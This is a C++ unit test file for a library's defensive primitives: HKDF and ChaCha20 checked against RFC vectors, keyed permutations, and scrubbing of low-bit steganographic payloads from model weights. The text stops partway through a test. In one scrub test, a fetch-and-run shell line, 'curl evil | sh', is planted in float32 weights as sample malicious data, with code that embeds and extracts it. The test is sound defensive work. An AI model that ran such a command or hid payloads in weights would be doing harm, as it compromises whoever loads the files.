// Unit tests for the primitives of Moving Target Defense: HKDF-SHA-256 (RFC 5869 vectors and
// OpenSSL), ChaCha20 (RFC 8439 vectors and OpenSSL), the keyed stream, below() and the keyed
// permutation (pinned outputs: they are a file-format contract), permuting items, weight
// scrubbing, the secret key file and the OS random source.
#include <brine/brine.hpp>
#include <doctest/doctest.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <sha_testing.hpp>
#include <test_files.hpp>

#include <algorithm>
#include <array>
#include <cctype>
#include <cmath>
#include <cstdint>
#include <cstring>
#include <fstream>
#include <limits>
#include <random>
#include <string>
#include <vector>

#include <sys/stat.h>
#include <unistd.h>

using brine::byte_view;
using brine::errc;
using brine::mutable_byte_view;
using brine::crypto::chacha20;
using brine::mtd::keyed_stream;
using sha_testing::from_hex;

namespace {

byte_view view_of(const std::vector<std::uint8_t>& bytes) { return {bytes.data(), bytes.size()}; }
mutable_byte_view mutable_view_of(std::vector<std::uint8_t>& bytes) { return {bytes.data(), bytes.size()}; }

std::string hex_of(const std::uint8_t* data, std::size_t size) {
    static const char digits[] = "0123456789abcdef";
    std::string hex;
    for (std::size_t i = 0; i < size; ++i) {
        hex += digits[data[i] >> 4];
        hex += digits[data[i] & 0x0F];
    }
    return hex;
}
std::string hex_of(const std::vector<std::uint8_t>& bytes) { return hex_of(bytes.data(), bytes.size()); }

std::vector<std::uint8_t> byte_range(unsigned first, unsigned last) {  // first..last inclusive
    std::vector<std::uint8_t> bytes;
    for (unsigned b = first; b <= last; ++b) bytes.push_back(static_cast<std::uint8_t>(b));
    return bytes;
}

template <std::size_t N>
std::array<std::uint8_t, N> array_of(const std::vector<std::uint8_t>& bytes) {
    std::array<std::uint8_t, N> out{};
    REQUIRE(bytes.size() == N);
    std::copy(bytes.begin(), bytes.end(), out.begin());
    return out;
}

// The RFC 8439 test key: bytes 00 01 02 ... 1f. Also the key of the pinned keyed_stream outputs.
chacha20::key_type counting_key() { return array_of<32>(byte_range(0x00, 0x1f)); }

std::vector<std::uint8_t> openssl_hkdf(const std::vector<std::uint8_t>& salt, const std::vector<std::uint8_t>& ikm,
                                       const std::vector<std::uint8_t>& info, std::size_t length) {
    std::vector<std::uint8_t> out(length);
    EVP_PKEY_CTX* context = EVP_PKEY_CTX_new_id(EVP_PKEY_HKDF, nullptr);
    REQUIRE(context != nullptr);
    CHECK(EVP_PKEY_derive_init(context) > 0);
    CHECK(EVP_PKEY_CTX_set_hkdf_md(context, EVP_sha256()) > 0);
    CHECK(EVP_PKEY_CTX_set1_hkdf_salt(context, salt.data(), static_cast<int>(salt.size())) > 0);
    CHECK(EVP_PKEY_CTX_set1_hkdf_key(context, ikm.data(), static_cast<int>(ikm.size())) > 0);
    if (!info.empty()) CHECK(EVP_PKEY_CTX_add1_hkdf_info(context, info.data(), static_cast<int>(info.size())) > 0);
    std::size_t produced = length;
    CHECK(EVP_PKEY_derive(context, out.data(), &produced) > 0);
    CHECK(produced == length);
    EVP_PKEY_CTX_free(context);
    return out;
}

// OpenSSL's "chacha20" cipher takes a 16-byte IV: the 32-bit block counter (little-endian), then
// the 96-bit nonce — the RFC 8439 layout.
std::vector<std::uint8_t> openssl_chacha20(const chacha20::key_type& key, const chacha20::nonce_type& nonce,
                                           std::uint32_t counter, std::size_t length) {
    std::array<std::uint8_t, 16> iv{};
    brine::store_le32(iv.data(), counter);
    std::copy(nonce.begin(), nonce.end(), iv.begin() + 4);
    std::vector<std::uint8_t> zeros(length), out(length + 16);
    EVP_CIPHER_CTX* context = EVP_CIPHER_CTX_new();
    REQUIRE(context != nullptr);
    CHECK(EVP_EncryptInit_ex(context, EVP_chacha20(), nullptr, key.data(), iv.data()) == 1);
    int produced = 0;
    CHECK(EVP_EncryptUpdate(context, out.data(), &produced, zeros.data(), static_cast<int>(length)) == 1);
    CHECK(static_cast<std::size_t>(produced) == length);
    EVP_CIPHER_CTX_free(context);
    out.resize(length);
    return out;
}

std::vector<std::uint8_t> keystream_of(chacha20 cipher, std::size_t length) {
    std::vector<std::uint8_t> out(length);
    cipher.keystream(mutable_view_of(out));
    return out;
}

}  // namespace

// ---------------------------------------------------------------------------------------------
// HKDF-SHA-256

TEST_CASE("hkdf: RFC 5869 test cases 1-3 (PRK and OKM)") {
    struct rfc5869_case {
        int number;
        std::vector<std::uint8_t> ikm, salt, info;
        std::size_t length;
        const char* prk;
        const char* okm;
    };
    const std::vector<rfc5869_case> cases = {
        {1, std::vector<std::uint8_t>(22, 0x0b), byte_range(0x00, 0x0c), byte_range(0xf0, 0xf9), 42,
         "077709362c2e32df0ddc3f0dc47bba6390b6c73bb50f9c3122ec844ad7c2b3e5",
         "3cb25f25faacd57a90434f64d0362f2a2d2d0a90cf1a5a4c5db02d56ecc4c5bf34007208d5b887185865"},
        {2, byte_range(0x00, 0x4f), byte_range(0x60, 0xaf), byte_range(0xb0, 0xff), 82,
         "06a6b88c5853361a06104c9ceb35b45cef760014904671014a193f40c15fc244",
         "b11e398dc80327a1c8e7f78c596a49344f012eda2d4efad8a050cc4c19afa97c"
         "59045a99cac7827271cb41c65e590e09da3275600c2f09b8367793a9aca3db71"
         "cc30c58179ec3e87c14c01d5c1f3434f1d87"},
        {3, std::vector<std::uint8_t>(22, 0x0b), {}, {}, 42,
         "19ef24a32c717b167f33a91d6f648bdf96596776afdb6377ac434c1c293ccb04",
         "8da4e775a563c18f715f802a063c5a31b8a11f5c5ee1879ec3454e5f3c738d2d9d201395faa4b61a96c8"},
    };
    for (const auto& test : cases) {
        CAPTURE(test.number);
        const auto prk = brine::crypto::hkdf_extract(view_of(test.salt), view_of(test.ikm));
        CHECK(hex_of(prk.data(), prk.size()) == test.prk);

        std::vector<std::uint8_t> okm(test.length);
        CHECK(brine::crypto::hkdf_expand(byte_view(prk.data(), prk.size()), view_of(test.info), mutable_view_of(okm)));
        CHECK(hex_of(okm) == test.okm);

        std::vector<std::uint8_t> one_call(test.length);
        CHECK(brine::crypto::hkdf_sha256(view_of(test.salt), view_of(test.ikm), view_of(test.info),
                                         mutable_view_of(one_call)));
        CHECK(one_call == okm);
    }
}

TEST_CASE("hkdf: output length limit, prefixes, and agreement with OpenSSL") {
    const std::vector<std::uint8_t> prk(32, 0x42), info = byte_range(1, 9);

    std::vector<std::uint8_t> longest(255 * 32);
    CHECK(brine::crypto::hkdf_expand(view_of(prk), view_of(info), mutable_view_of(longest)));
    std::vector<std::uint8_t> too_long(255 * 32 + 1, 0xEE);
    CHECK_FALSE(brine::crypto::hkdf_expand(view_of(prk), view_of(info), mutable_view_of(too_long)));
    CHECK(std::all_of(too_long.begin(), too_long.end(), [](std::uint8_t b) { return b == 0xEE; }));
    CHECK_FALSE(brine::crypto::hkdf_sha256(view_of(prk), view_of(prk), view_of(info), mutable_view_of(too_long)));

    // Every shorter output is a prefix of a longer one; an empty one is fine.
    for (std::size_t length : {0u, 1u, 31u, 32u, 33u, 64u, 65u, 1000u}) {
        CAPTURE(length);
        std::vector<std::uint8_t> out(length);
        CHECK(brine::crypto::hkdf_expand(view_of(prk), view_of(info), mutable_view_of(out)));
        CHECK(std::equal(out.begin(), out.end(), longest.begin()));
    }

    std::mt19937_64 rng(5869);
    for (int round = 0; round < 50; ++round) {
        const auto salt = sha_testing::random_bytes(rng, 1 + rng() % 100);
        const auto ikm = sha_testing::random_bytes(rng, 1 + rng() % 100);
        const auto context = sha_testing::random_bytes(rng, rng() % 100);
        const std::size_t length = 1 + rng() % 600;
        CAPTURE(round);
        std::vector<std::uint8_t> out(length);
        CHECK(brine::crypto::hkdf_sha256(view_of(salt), view_of(ikm), view_of(context), mutable_view_of(out)));
        CHECK(hex_of(out) == hex_of(openssl_hkdf(salt, ikm, context, length)));
    }
}

// ---------------------------------------------------------------------------------------------
// ChaCha20

TEST_CASE("chacha20: RFC 8439 2.3.2 block function test vector") {
    const auto nonce = array_of<12>(from_hex("000000090000004a00000000"));
    const auto block = chacha20::block(counting_key(), nonce, 1);
    CHECK(hex_of(block.data(), block.size()) ==
          "10f1e7e4d13b5915500fdd1fa32071c4c7d1f4c733c068030422aa9ac3d46c4e"
          "d2826446079faa0914c2d705d98b02a2b5129cd1de164eb9cbd083e8a2503c4e");
    // The same bytes from the stream interface.
    CHECK(keystream_of(chacha20(counting_key(), nonce, 1), 64) == std::vector<std::uint8_t>(block.begin(), block.end()));
}

TEST_CASE("chacha20: RFC 8439 2.4.2 encryption test vector") {
    const std::string text =
        "Ladies and Gentlemen of the class of '99: If I could offer you only one tip for the future, "
        "sunscreen would be it.";
    const std::vector<std::uint8_t> plaintext(text.begin(), text.end());
    const std::string ciphertext =
        "6e2e359a2568f98041ba0728dd0d6981e97e7aec1d4360c20a27afccfd9fae0b"
        "f91b65c5524733ab8f593dabcd62b3571639d624e65152ab8f530c359f0861d8"
        "07ca0dbf500d6a6156a38e088a22b65e52bc514d16ccf806818ce91ab7793736"
        "5af90bbf74a35be6b40b8eedf2785e42874d";
    const auto nonce = array_of<12>(from_hex("000000000000004a00000000"));

    // keystream = ciphertext XOR plaintext
    const std::vector<std::uint8_t> expected = from_hex(ciphertext);
    REQUIRE(expected.size() == plaintext.size());
    std::vector<std::uint8_t> stream_bytes = keystream_of(chacha20(counting_key(), nonce, 1), plaintext.size());
    for (std::size_t i = 0; i < plaintext.size(); ++i) CHECK((stream_bytes[i] ^ plaintext[i]) == expected[i]);

    std::vector<std::uint8_t> data = plaintext;
    chacha20 cipher(counting_key(), nonce, 1);
    cipher.apply(mutable_view_of(data));
    CHECK(hex_of(data) == ciphertext);
    chacha20 decipher(counting_key(), nonce, 1);
    decipher.apply(mutable_view_of(data));
    CHECK(data == plaintext);
}

TEST_CASE("chacha20: the all-zero key and nonce (RFC 8439 A.1 vector 1) and agreement with OpenSSL") {
    const auto zero_block = chacha20::block(chacha20::key_type{}, chacha20::nonce_type{}, 0);
    CHECK(hex_of(zero_block.data(), zero_block.size()) ==
          "76b8e0ada0f13d90405d6ae55386bd28bdd219b8a08ded1aa836efcc8b770dc7"
          "da41597c5157488d7724e03fb8d84a376a43b8f41518a11cc387b669b2ee6586");

    std::mt19937_64 rng(8439);
    for (std::size_t length : {0u, 1u, 63u, 64u, 65u, 255u, 256u, 257u, 511u, 1000u, 4096u, 10007u}) {
        CAPTURE(length);
        const auto key = array_of<32>(sha_testing::random_bytes(rng, 32));
        const auto nonce = array_of<12>(sha_testing::random_bytes(rng, 12));
        const auto counter = static_cast<std::uint32_t>(rng() % 1000);
        CHECK(hex_of(keystream_of(chacha20(key, nonce, counter), length)) ==
              hex_of(openssl_chacha20(key, nonce, counter, length)));
    }
}

TEST_CASE("chacha20: the keystream continues across calls of any size") {
    std::mt19937_64 rng(20);
    const auto key = array_of<32>(sha_testing::random_bytes(rng, 32));
    const auto nonce = array_of<12>(sha_testing::random_bytes(rng, 12));
    const std::vector<std::uint8_t> whole = keystream_of(chacha20(key, nonce, 7), 5000);

    const std::vector<std::size_t> fixed_splits = {1, 3, 0, 64, 5, 255, 256, 1, 63, 64, 128, 7, 1024, 129, 300};
    chacha20 pieces(key, nonce, 7);
    std::vector<std::uint8_t> joined;
    for (std::size_t piece : fixed_splits) {
        std::vector<std::uint8_t> part(piece);
        pieces.keystream(mutable_view_of(part));
        joined.insert(joined.end(), part.begin(), part.end());
    }
    while (joined.size() < whole.size()) {  // then random pieces up to the end
        std::vector<std::uint8_t> part(std::min<std::size_t>(rng() % 700, whole.size() - joined.size()));
        pieces.keystream(mutable_view_of(part));
        joined.insert(joined.end(), part.begin(), part.end());
    }
    CHECK(joined == whole);
}

TEST_CASE("chacha20: the 32-bit block counter wraps to 0") {
    const auto key = counting_key();
    const chacha20::nonce_type nonce{};
    const auto last = chacha20::block(key, nonce, 0xFFFFFFFFu);
    const auto first = chacha20::block(key, nonce, 0);
    const auto second = chacha20::block(key, nonce, 1);
    // Both the single-block and the four-block paths.
    for (std::size_t length : {128u, 256u}) {
        CAPTURE(length);
        const auto bytes = keystream_of(chacha20(key, nonce, 0xFFFFFFFFu), length);
        CHECK(std::equal(last.begin(), last.end(), bytes.begin()));
        CHECK(std::equal(first.begin(), first.end(), bytes.begin() + 64));
        if (length == 256) CHECK(std::equal(second.begin(), second.end(), bytes.begin() + 128));
    }
}

// ---------------------------------------------------------------------------------------------
// keyed_stream, below(), keyed_permutation

TEST_CASE("keyed_stream: the ChaCha20 keystream with a zero nonce, whatever the mix of calls") {
    const auto key = counting_key();
    const std::vector<std::uint8_t> raw = keystream_of(chacha20(key, chacha20::nonce_type{}, 0), 20000);

    // Pinned: the first values (also computed independently from `openssl enc -chacha20`).
    keyed_stream pinned(key);
    CHECK(pinned.next_u32() == 0x7d2bfd39u);
    CHECK(pinned.next_u32() == 0x6a19c5d9u);
    CHECK(pinned.next_u32() == 0x7703bd8du);
    CHECK(pinned.next_u32() == 0x494adcb8u);
    CHECK(pinned.next_u64() == 0xcc6adebc6fd8358aull);

    // Any interleaving reads the keystream front to back, across buffer refills.
    std::mt19937_64 rng(256);
    keyed_stream stream(key);
    std::size_t position = 0;
    while (position + 1100 < raw.size()) {
        switch (rng() % 3) {
            case 0: {
                std::vector<std::uint8_t> part(rng() % 2 == 0 ? rng() % 20 : rng() % 1100);
                stream.fill(mutable_view_of(part));
                REQUIRE(std::equal(part.begin(), part.end(), raw.begin() + static_cast<std::ptrdiff_t>(position)));
                position += part.size();
                break;
            }
            case 1:
                REQUIRE(stream.next_u32() == brine::load_le32(raw.data() + position));
                position += 4;
                break;
            default:
                REQUIRE(stream.next_u64() == brine::load_le64(raw.data() + position));
                position += 8;
                break;
        }
    }

    // A copy continues with the same values.
    keyed_stream copy = stream;
    for (int i = 0; i < 100; ++i) CHECK(copy.next_u64() == stream.next_u64());
}

TEST_CASE("keyed_stream: same key, same values; another key, other values") {
    keyed_stream::key_type key_a{}, key_b{};
    key_a[0] = 1;
    key_b[0] = 2;
    keyed_stream a1(key_a), a2(key_a), b(key_b);
    int differences = 0;
    for (int i = 0; i < 1000; ++i) {
        const std::uint64_t bound = 1 + static_cast<std::uint64_t>(i) * 7919;
        const std::uint64_t x = a1.below(bound);
        CHECK(x == a2.below(bound));
        if (x != b.below(bound)) ++differences;
    }
    CHECK(differences > 900);
}

TEST_CASE("below: pinned values, both paths") {
    keyed_stream stream(counting_key());
    const std::vector<std::uint64_t> bounds = {10,
                                               3,
                                               1000,
                                               (std::uint64_t{1} << 31) + 1,
                                               (std::uint64_t{1} << 31) + 1,
                                               (std::uint64_t{1} << 31) + 1,
                                               std::uint64_t{1} << 32,
                                               (std::uint64_t{1} << 40) + 7,
                                               (std::uint64_t{1} << 63) + 5,
                                               1};
    const std::vector<std::uint64_t> expected = {
        4, 1, 464, 1714777950, 1225946476, 1435611217, 1777274431, 1005920068970, 5778421654364486619u, 0};
    for (std::size_t i = 0; i < bounds.size(); ++i) {
        CAPTURE(i);
        CHECK(stream.below(bounds[i]) == expected[i]);
    }
}

TEST_CASE("below: Lemire's rule, checked against a 128-bit reference on a copy of the stream") {
    keyed_stream stream(counting_key());
    std::mt19937_64 rng(2019);
    for (int i = 0; i < 3000; ++i) {
        std::uint64_t bound = rng() >> (rng() % 64);
        if (bound == 0) bound = 1;
        CAPTURE(bound);
        keyed_stream reference = stream;
        std::uint64_t expected = 0;
        if (bound < (std::uint64_t{1} << 32)) {
            std::uint64_t product = std::uint64_t{reference.next_u32()} * bound;
            const auto threshold = static_cast<std::uint32_t>(-static_cast<std::uint32_t>(bound)) % bound;
            while (static_cast<std::uint32_t>(product) < threshold) product = std::uint64_t{reference.next_u32()} * bound;
            expected = product >> 32;
        } else if (bound == (std::uint64_t{1} << 32)) {
            expected = reference.next_u32();
        } else {
            __extension__ typedef unsigned __int128 wide;
            wide product = wide{reference.next_u64()} * bound;
            const std::uint64_t threshold = (std::uint64_t{0} - bound) % bound;
            while (static_cast<std::uint64_t>(product) < threshold) product = wide{reference.next_u64()} * bound;
            expected = static_cast<std::uint64_t>(product >> 64);
        }
        const std::uint64_t got = stream.below(bound);
        REQUIRE(got == expected);
        REQUIRE(got < bound);
        REQUIRE(stream.next_u32() == reference.next_u32());  // both consumed the same draws
    }
}

TEST_CASE("below: in range, every value reached, no visible bias") {
    keyed_stream stream(counting_key());
    const std::uint64_t max = std::numeric_limits<std::uint64_t>::max();
    for (std::uint64_t bound : {std::uint64_t{1}, std::uint64_t{2}, std::uint64_t{3}, std::uint64_t{7},
                                std::uint64_t{100}, (std::uint64_t{1} << 31) + 1, (std::uint64_t{1} << 32) - 1,
                                std::uint64_t{1} << 32, (std::uint64_t{1} << 32) + 1, (std::uint64_t{1} << 40) + 3,
                                (std::uint64_t{1} << 63) + 5, max}) {
        CAPTURE(bound);
        for (int i = 0; i < 2000; ++i) REQUIRE(stream.below(bound) < bound);
    }
    CHECK(stream.below(0) == 0);

    for (std::uint64_t bound = 1; bound <= 12; ++bound) {
        CAPTURE(bound);
        std::vector<int> seen(bound, 0);
        for (int i = 0; i < 1000; ++i) ++seen[stream.below(bound)];
        CHECK(std::all_of(seen.begin(), seen.end(), [](int count) { return count > 0; }));
    }

    // Chi-square over 3 buckets (2 degrees of freedom): P(chi2 > 20) is about 5e-5.
    std::array<double, 3> counts{};
    const int draws = 30000;
    for (int i = 0; i < draws; ++i) counts[stream.below(3)] += 1;
    double chi_square = 0;
    for (double count : counts) chi_square += (count - draws / 3.0) * (count - draws / 3.0) / (draws / 3.0);
    CAPTURE(chi_square);
    CHECK(chi_square < 20.0);

    // A bound where half of all 32-bit draws are rejected: the mean stays in the middle.
    const std::uint64_t awkward = (std::uint64_t{1} << 31) + 1;
    double sum = 0;
    for (int i = 0; i < 20000; ++i) sum += static_cast<double>(stream.below(awkward));
    CHECK(std::fabs(sum / 20000 / static_cast<double>(awkward) - 0.5) < 0.02);
}

TEST_CASE("keyed_permutation: bijection, pinned, deterministic, key-dependent") {
    for (std::uint32_t n : {0u, 1u, 2u, 7u, 1000u}) {
        CAPTURE(n);
        keyed_stream stream(counting_key());
        const auto p = brine::mtd::keyed_permutation(n, stream);
        REQUIRE(p.size() == n);
        std::vector<std::uint32_t> sorted = p;
        std::sort(sorted.begin(), sorted.end());
        for (std::uint32_t k = 0; k < n; ++k) CHECK(sorted[k] == k);
    }

    // Pinned (recomputed independently from `openssl enc -chacha20` output).
    keyed_stream stream(counting_key());
    CHECK(brine::mtd::keyed_permutation(10, stream) == std::vector<std::uint32_t>{0, 5, 9, 1, 7, 6, 2, 8, 3, 4});
    CHECK(stream.next_u32() == 0xab2360a2u);  // the stream is left after the last draw

    keyed_stream big(counting_key());
    const auto p1000 = brine::mtd::keyed_permutation(1000, big);
    CHECK(std::vector<std::uint32_t>(p1000.begin(), p1000.begin() + 8) ==
          std::vector<std::uint32_t>{303, 912, 465, 180, 100, 325, 922, 745});
    std::uint32_t weighted = 0;
    for (std::uint32_t k = 0; k < 1000; ++k) weighted += k * p1000[k];
    CHECK(weighted == 247753989u);

    // 0 and 1 elements draw nothing.
    keyed_stream untouched(counting_key());
    (void)brine::mtd::keyed_permutation(0, untouched);
    (void)brine::mtd::keyed_permutation(1, untouched);
    CHECK(untouched.next_u32() == 0x7d2bfd39u);

    keyed_stream again(counting_key());
    CHECK(brine::mtd::keyed_permutation(1000, again) == p1000);
    keyed_stream::key_type other_key = counting_key();
    other_key[31] ^= 1;
    keyed_stream other(other_key);
    const auto p_other = brine::mtd::keyed_permutation(1000, other);
    CHECK(p_other != p1000);
    int fixed_points = 0;
    for (std::uint32_t k = 0; k < 1000; ++k) fixed_points += p_other[k] == p1000[k];
    CHECK(fixed_points < 20);
}

TEST_CASE("permute_items / unpermute_items: round trip for every item size, items really move") {
    std::mt19937_64 rng(16);
    for (std::size_t item_size : {1u, 2u, 3u, 4u, 5u, 8u, 12u, 16u, 32u}) {
        for (std::uint32_t n : {1u, 2u, 7u, 1000u}) {
            CAPTURE(item_size);
            CAPTURE(n);
            keyed_stream::key_type key{};
            key[0] = static_cast<std::uint8_t>(item_size);
            keyed_stream stream(key);
            const auto p = brine::mtd::keyed_permutation(n, stream);
            // Distinct items: each starts with its index, the rest is random.
            std::vector<std::uint8_t> in = sha_testing::random_bytes(rng, n * item_size);
            for (std::uint32_t k = 0; k < n; ++k)
                for (std::size_t b = 0; b < std::min<std::size_t>(item_size, 4); ++b)
                    in[k * item_size + b] = static_cast<std::uint8_t>(k >> (8 * b));
            std::vector<std::uint8_t> permuted(in.size()), restored(in.size());
            brine::mtd::permute_items(view_of(in), mutable_view_of(permuted), item_size, p);
            for (std::uint32_t k = 0; k < n; ++k)
                REQUIRE(std::equal(permuted.begin() + static_cast<std::ptrdiff_t>(k * item_size),
                                   permuted.begin() + static_cast<std::ptrdiff_t>((k + 1) * item_size),
                                   in.begin() + static_cast<std::ptrdiff_t>(std::size_t{p[k]} * item_size)));
            if (n == 1000) CHECK(permuted != in);
            brine::mtd::unpermute_items(view_of(permuted), mutable_view_of(restored), item_size, p);
            CHECK(restored == in);
        }
    }
    // Nothing to do for no items.
    brine::mtd::permute_items(byte_view(), mutable_byte_view(), 4, {});
    brine::mtd::unpermute_items(byte_view(), mutable_byte_view(), 4, {});
}

// ---------------------------------------------------------------------------------------------
// Weight scrubbing

namespace {

using brine::mtd::scrub_change;
using brine::torch::dtype;

std::vector<std::uint8_t> float32_bytes(const std::vector<float>& values) {
    std::vector<std::uint8_t> bytes(values.size() * 4);
    for (std::size_t i = 0; i < values.size(); ++i) {
        std::uint32_t bits;
        std::memcpy(&bits, &values[i], 4);
        brine::store_le32(bytes.data() + 4 * i, bits);
    }
    return bytes;
}

// Reads `bits` low bits of each little-endian element as a bit string, least significant first,
// packed into bytes: what a payload extractor would do.
std::vector<std::uint8_t> low_bits_payload(const std::vector<std::uint8_t>& data, std::size_t item_size, unsigned bits,
                                           std::size_t payload_size) {
    std::vector<std::uint8_t> payload(payload_size);
    std::size_t bit = 0;
    for (std::size_t k = 0; k * item_size < data.size() && bit < payload_size * 8; ++k) {
        const std::uint64_t word = item_size == 2 ? brine::load_le16(data.data() + k * item_size)
                                   : item_size == 4 ? brine::load_le32(data.data() + k * item_size)
                                                    : brine::load_le64(data.data() + k * item_size);
        for (unsigned b = 0; b < bits && bit < payload_size * 8; ++b, ++bit)
            if ((word >> b) & 1u) payload[bit / 8] = static_cast<std::uint8_t>(payload[bit / 8] | (1u << (bit % 8)));
    }
    return payload;
}

// Writes a payload into the low bits (the inverse of low_bits_payload).
void plant_payload(std::vector<std::uint8_t>& data, std::size_t item_size, unsigned bits,
                   const std::vector<std::uint8_t>& payload) {
    std::size_t bit = 0;
    for (std::size_t k = 0; k * item_size < data.size() && bit < payload.size() * 8; ++k) {
        for (unsigned b = 0; b < bits && bit < payload.size() * 8; ++b, ++bit) {
            std::uint8_t& byte = data[k * item_size + b / 8];
            const auto mask = static_cast<std::uint8_t>(1u << (b % 8));
            byte = ((payload[bit / 8] >> (bit % 8)) & 1u) ? static_cast<std::uint8_t>(byte | mask)
                                                          : static_cast<std::uint8_t>(byte & ~mask);
        }
    }
}

double element_value(dtype type, const std::uint8_t* p) {
    switch (type) {
        case dtype::float16: return brine::mtd::detail::float16_value(brine::load_le16(p));
        case dtype::bfloat16: return brine::mtd::detail::bfloat16_value(brine::load_le16(p));
        case dtype::float32: return brine::mtd::detail::float32_value(brine::load_le32(p));
        default: return brine::mtd::detail::float64_value(brine::load_le64(p));
    }
}

std::uint64_t element_word(std::size_t item_size, const std::uint8_t* p) {
    return item_size == 2 ? brine::load_le16(p) : item_size == 4 ? brine::load_le32(p) : brine::load_le64(p);
}

// Checks what scrubbing changed element by element: only the low bits, the relative bound for
// normal numbers, Inf/NaN/zero untouched, and the change report.
void check_scrub(dtype type, const std::vector<std::uint8_t>& before, const std::vector<std::uint8_t>& after,
                 unsigned bits, const scrub_change& change) {
    const std::size_t item_size = brine::torch::info(type).item_size;
    const unsigned mantissa = brine::mtd::mantissa_bits(type);
    const std::uint64_t low_mask = (std::uint64_t{1} << bits) - 1;
    const std::uint64_t exponent_mask =
        (((std::uint64_t{1} << (8 * item_size - 1 - mantissa)) - 1) << mantissa);
    const std::uint64_t magnitude_mask = (std::uint64_t{1} << (8 * item_size - 1)) - 1;
    const double bound = brine::mtd::scrub_relative_bound(type, bits);
    double max_abs = 0, max_rel = 0;
    std::uint64_t skipped = 0, zeros = 0, subnormal = 0;
    for (std::size_t k = 0; k * item_size < before.size(); ++k) {
        const std::uint64_t old_word = element_word(item_size, before.data() + k * item_size);
        const std::uint64_t new_word = element_word(item_size, after.data() + k * item_size);
        REQUIRE(((old_word ^ new_word) & ~low_mask) == 0);  // sign, exponent, high mantissa kept
        if ((old_word & exponent_mask) == exponent_mask) {
            REQUIRE(new_word == old_word);
            ++skipped;
            continue;
        }
        if ((old_word & magnitude_mask) == 0) {
            REQUIRE(new_word == old_word);
            ++zeros;
            continue;
        }
        const double old_value = element_value(type, before.data() + k * item_size);
        const double difference = std::fabs(element_value(type, after.data() + k * item_size) - old_value);
        max_abs = std::max(max_abs, difference);
        if ((old_word & exponent_mask) == 0) {
            ++subnormal;
        } else {
            REQUIRE(difference / std::fabs(old_value) < bound);
            max_rel = std::max(max_rel, difference / std::fabs(old_value));
        }
    }
    CHECK(change.values == before.size() / item_size);
    CHECK(change.skipped == skipped);
    CHECK(change.zeros == zeros);
    CHECK(change.subnormal == subnormal);
    CHECK(change.max_abs == max_abs);
    CHECK(change.max_rel == max_rel);
    CHECK(change.max_rel < bound);
}

}  // namespace

TEST_CASE("scrub: mantissa widths and relative bounds") {
    CHECK(brine::mtd::mantissa_bits(dtype::float16) == 10);
    CHECK(brine::mtd::mantissa_bits(dtype::bfloat16) == 7);
    CHECK(brine::mtd::mantissa_bits(dtype::float32) == 23);
    CHECK(brine::mtd::mantissa_bits(dtype::float64) == 52);
    for (dtype other : {dtype::complex64, dtype::complex128, dtype::uint8, dtype::int8, dtype::int16, dtype::int32,
                        dtype::int64, dtype::boolean, dtype::quint8, dtype::qint8, dtype::qint32, dtype::quint4x2,
                        dtype::quint2x4})
        CHECK(brine::mtd::mantissa_bits(other) == 0);
    static_assert(brine::mtd::scrub_relative_bound(dtype::float32, 2) == 1.0 / (1 << 21), "2^(2-23)");
    CHECK(brine::mtd::scrub_relative_bound(dtype::float16, 10) == 1.0);
    CHECK(brine::mtd::scrub_relative_bound(dtype::bfloat16, 1) == 1.0 / 64);
    CHECK(brine::mtd::scrub_relative_bound(dtype::float64, 4) == std::ldexp(1.0, -48));
    CHECK(brine::mtd::scrub_relative_bound(dtype::float32, 0) == 0.0);
    CHECK(brine::mtd::scrub_relative_bound(dtype::float32, 24) == 0.0);
    CHECK(brine::mtd::scrub_relative_bound(dtype::int32, 1) == 0.0);

    // The half-precision conversions the report uses.
    CHECK(brine::mtd::detail::float16_value(0x3C00) == 1.0);
    CHECK(brine::mtd::detail::float16_value(0xC000) == -2.0);
    CHECK(brine::mtd::detail::float16_value(0x7BFF) == 65504.0);
    CHECK(brine::mtd::detail::float16_value(0x0001) == std::ldexp(1.0, -24));
    CHECK(brine::mtd::detail::float16_value(0x83FF) == -1023 * std::ldexp(1.0, -24));
    CHECK(brine::mtd::detail::float16_value(0x0400) == std::ldexp(1.0, -14));
    CHECK(brine::mtd::detail::float16_value(0x3555) == 0x555 * std::ldexp(1.0, -12));  // 0.333251953125
    CHECK(brine::mtd::detail::bfloat16_value(0x3F80) == 1.0);
    CHECK(brine::mtd::detail::bfloat16_value(0xC0A0) == -5.0);
}

TEST_CASE("scrub: a payload planted in float32 low bits does not survive") {
    std::mt19937_64 rng(2);
    std::uniform_real_distribution<float> weights(-2.0f, 2.0f);
    std::vector<float> values(4096);
    for (float& value : values) value = weights(rng);
    values[10] = std::numeric_limits<float>::infinity();
    values[11] = -std::numeric_limits<float>::infinity();
    values[12] = std::numeric_limits<float>::quiet_NaN();
    values[13] = 0.0f;
    values[14] = -0.0f;
    values[15] = std::numeric_limits<float>::denorm_min() * 12345;
    std::vector<std::uint8_t> data = float32_bytes(values);
    // A signalling NaN with payload bits of its own.
    brine::store_le32(data.data() + 16 * 4, 0x7F800003u);

    std::string secret_text;
    while (secret_text.size() < 1000) secret_text += "os.system('curl evil | sh') # hidden in the weights; ";
    const std::vector<std::uint8_t> payload(secret_text.begin(), secret_text.end());  // 4000 elements' worth
    plant_payload(data, 4, 2, payload);
    // Inf, NaN and zeros cannot carry planted bits without changing class; restore them.
    brine::store_le32(data.data() + 10 * 4, 0x7F800000u);
    brine::store_le32(data.data() + 11 * 4, 0xFF800000u);
    brine::store_le32(data.data() + 12 * 4, 0x7FC00000u);
    brine::store_le32(data.data() + 13 * 4, 0x00000000u);
    brine::store_le32(data.data() + 14 * 4, 0x80000000u);
    brine::store_le32(data.data() + 16 * 4, 0x7F800003u);
    const std::vector<std::uint8_t> planted = data;
    const auto extracted = low_bits_payload(planted, 4, 2, payload.size());
    std::size_t same_before = 0;
    for (std::size_t i = 0; i < payload.size(); ++i) same_before += extracted[i] == payload[i];
    CHECK(same_before > payload.size() - 5);  // only the bytes over the special values differ

    keyed_stream stream(counting_key());
    scrub_change change;
    REQUIRE(brine::mtd::scrub_lsb(dtype::float32, mutable_view_of(data), 2, stream, change));
    check_scrub(dtype::float32, planted, data, 2, change);
    CHECK(change.skipped == 4);
    CHECK(change.zeros == 2);
    CHECK(change.subnormal == 1);
    CHECK(change.max_rel > 0);

    const auto after = low_bits_payload(data, 4, 2, payload.size());
    std::size_t same_after = 0;
    for (std::size_t i = 0; i < payload.size(); ++i) same_after += after[i] == payload[i];
    CHECK(after != payload);
    CHECK(same_after < payload.size() / 50);  // random bytes match 1 in 256
    // Per 2-bit group, about one in four still matches by chance, not more.
    std::size_t groups_same = 0, groups = 0;
